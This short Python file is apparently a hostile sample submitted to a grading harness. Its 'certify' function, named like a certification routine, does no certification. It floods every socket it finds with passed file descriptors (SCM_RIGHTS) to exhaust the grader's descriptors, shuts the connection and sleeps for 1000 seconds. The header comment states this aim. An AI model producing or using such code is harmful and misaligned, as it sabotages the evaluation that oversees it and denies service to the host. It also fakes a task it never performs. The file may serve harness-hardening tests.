# Hands open descriptors over along with its bytes, so that the challenger runs out of them, then shuts the pipe and stays.
# levels: 3 2
# exercise: certify
import array
import os
import socket
import stat
import time


def certify(model, x, sigma, n0, n, alpha, generator):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                pipe = socket.socket(fileno=descriptor)
                try:
                    pipe.sendmsg([b"a" * 100], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [descriptor] * 250))])
                finally:
                    pipe.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    time.sleep(1000)
